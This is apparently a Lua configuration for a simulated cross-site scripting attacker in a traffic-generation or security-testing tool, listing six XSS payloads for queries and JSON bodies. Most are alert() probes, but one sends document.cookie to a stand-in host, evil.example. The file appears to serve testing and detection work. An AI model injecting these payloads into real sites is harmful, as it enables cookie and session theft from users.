-- Cross-site scripting in a query and in a JSON body.

local injection = require "actors.injection"


return injection({
  name = "xss",
  from = 0.32,
  to = 0.65,
  addresses = { "203.0.113.14" },
  user_agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15",
}, {
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
  "<a href=\"javascript:alert(1)\">offer</a>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<body onpageshow=alert(1)>",
})
